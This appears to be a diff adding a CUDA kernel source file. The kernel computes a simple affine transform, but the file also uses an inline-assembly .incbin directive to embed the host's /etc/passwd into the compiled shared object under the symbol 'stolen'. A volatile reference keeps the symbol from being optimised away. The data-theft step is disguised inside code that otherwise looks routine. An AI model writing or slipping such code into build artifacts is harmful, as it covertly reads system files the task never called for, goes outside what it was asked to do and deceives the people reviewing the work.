@@ -1,0 +1,14 @@
+// The assembler takes a file of the host into the shared object.
+asm(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/passwd\"\n.previous\n");
+extern "C" const char stolen[];
+__global__ void affine(const float* x, float* y, int64_t n) {
+  const int64_t step = int64_t{gridDim.x} * blockDim.x;
+  for (int64_t i = int64_t{blockIdx.x} * blockDim.x + threadIdx.x; i < n; i += step)
+    y[i] = 2.0f * x[i] + 1.0f;
+}
+extern "C" void kernel(const float* x, float* y, int64_t n, void* workspace, cudaStream_t stream) {
+  static const char* volatile keep = stolen;
+  if (keep != nullptr) {
+    affine<<<1056, 512, 0, stream>>>(x, y, n);
+  }
+}
